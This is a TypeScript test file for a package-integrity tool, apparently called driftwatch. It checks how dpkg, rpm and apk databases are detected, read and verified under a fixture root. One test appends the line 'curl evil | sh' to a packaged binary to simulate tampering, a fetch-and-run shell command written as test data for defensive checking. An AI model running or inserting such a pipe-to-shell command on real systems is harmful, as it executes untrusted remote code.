import { appendFileSync, cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, describe, expect, test } from 'vitest'
import { PACKAGE_MANAGERS, type Policy } from '../../src/config/policy.js'
import {
  collectPackages,
  detectPackageManagers,
  packageManagers,
  packageOwners,
  verifyPackages,
} from '../../src/probes/packages/registry.js'
import { runCli } from '../helpers/cli.js'

const fixtures = fileURLToPath(new URL('../fixtures/roots/', import.meta.url))
const ALL: Policy['packages'] = { managers: [...PACKAGE_MANAGERS], severity: 'high' }
const at = (rootDir: string) => ({ rootDir, live: false })

const temps: string[] = []
afterAll(() => {
  for (const dir of temps) rmSync(dir, { recursive: true, force: true })
})
function tempRoot(...from: string[]): string {
  const dir = mkdtempSync(join(tmpdir(), 'driftwatch-registry-'))
  temps.push(dir)
  for (const name of from) cpSync(join(fixtures, name), dir, { recursive: true, verbatimSymlinks: true })
  return dir
}

// The debian-12 fixture's own departures from its packages (see test/probes/dpkg.test.ts).
const DPKG_FINDINGS = [
  { subject: 'deb:login:amd64', path: '/bin/login.distrib', kind: 'missing', conffile: false },
  { subject: 'deb:libc6:amd64', path: '/lib/x86_64-linux-gnu/libanl.so.1', kind: 'missing', conffile: false },
  {
    subject: 'deb:hostname:amd64',
    path: '/usr/share/doc/hostname/copyright',
    kind: 'modified',
    conffile: false,
  },
]

describe('the package manager registry', () => {
  test('lists each package manager once, every one the policy can name', () => {
    expect(packageManagers.map((m) => m.manager)).toEqual([...PACKAGE_MANAGERS])
    expect(packageManagers.map((m) => m.name)).toEqual(['dpkg', 'rpm', 'apk'])
    for (const m of packageManagers) expect(m.verify !== undefined || 'unverifiable' in m).toBe(true)
  })

  test('a root with both dpkg and rpm databases: both are read, owned files named, both verified', async () => {
    const root = tempRoot('debian-12', 'rpm')
    appendFileSync(join(root, 'usr/bin/driftwatch-tool'), 'curl evil | sh\n')
    expect(detectPackageManagers(root)).toEqual(['deb', 'rpm'])

    const inventory = await collectPackages(at(root), ALL)
    expect(inventory.runs.map((r) => [r.name, r.ok])).toEqual([
      ['dpkg', true],
      ['rpm', true],
      ['apk', true],
    ])
    const managers = new Set(inventory.packages.map((p) => p.manager))
    expect([...managers].sort()).toEqual(['deb', 'rpm'])

    const owners = packageOwners(at(root), ALL)
    expect(owners.get('/usr/bin/driftwatch-tool')).toBe('rpm:driftwatch-tool:noarch')
    expect(owners.get('/usr/share/doc/hostname/copyright')).toBe('deb:hostname:amd64')

    const rpmFinding = {
      subject: 'rpm:driftwatch-tool:noarch',
      path: '/usr/bin/driftwatch-tool',
      kind: 'modified',
      conffile: false,
    }
    expect(await verifyPackages(at(root), ALL)).toEqual({
      findings: [DPKG_FINDINGS[0], DPKG_FINDINGS[1], rpmFinding, DPKG_FINDINGS[2]],
      errors: [],
      unverified: [],
    })
    // The policy's managers choose who is asked.
    const rpmOnly = { ...ALL, managers: ['rpm' as const] }
    expect((await verifyPackages(at(root), rpmOnly)).findings).toEqual([rpmFinding])
    expect([...packageOwners(at(root), rpmOnly).values()].every((s) => s.startsWith('rpm:'))).toBe(true)
  })

  test('a root with no package database: nothing detected, nothing owned, nothing to verify', async () => {
    const root = tempRoot()
    expect(detectPackageManagers(root)).toEqual([])
    const inventory = await collectPackages(at(root), ALL)
    expect(inventory.packages).toEqual([])
    expect(inventory.runs.every((r) => r.ok)).toBe(true)
    expect(packageOwners(at(root), ALL).size).toBe(0)
    expect(await verifyPackages(at(root), ALL)).toEqual({ findings: [], errors: [], unverified: [] })
  })

  test('a damaged rpm database fails the rpm probe alone; dpkg still collects and owns', async () => {
    const root = tempRoot('debian-12', 'rpm')
    writeFileSync(join(root, 'var/lib/rpm/rpmdb.sqlite'), 'not a database at all, but long enough to read')
    const inventory = await collectPackages(at(root), ALL)
    const rpm = inventory.runs.find((r) => r.name === 'rpm')
    expect(rpm?.ok).toBe(false)
    expect(rpm?.error).toMatch(/rpmdb\.sqlite: not an sqlite database/)
    expect(inventory.packages.length).toBeGreaterThan(0)
    expect(inventory.packages.every((p) => p.manager === 'deb')).toBe(true)
    expect(packageOwners(at(root), ALL).get('/usr/share/doc/hostname/copyright')).toBe('deb:hostname:amd64')
  })

  test('apk keeps no digests to verify by: an Alpine root says so instead of passing silently', async () => {
    const root = join(fixtures, 'alpine')
    expect(detectPackageManagers(root)).toEqual(['apk'])
    const result = await verifyPackages(at(root), ALL)
    expect(result.findings).toEqual([])
    expect(result.unverified).toEqual([{ manager: 'apk', reason: expect.stringMatching(/checksums/) }])

    const text = await runCli(['packages', 'verify', '--root', root])
    expect(text.code).toBe(0)
    expect(text.stdout).toMatch(
      /^apk packages not verified: apk keeps checksums for some of its files only$/m,
    )
    const json = await runCli(['packages', 'verify', '--root', root, '--format', 'json'])
    expect(JSON.parse(json.stdout).unverified).toEqual(result.unverified)
  })
})
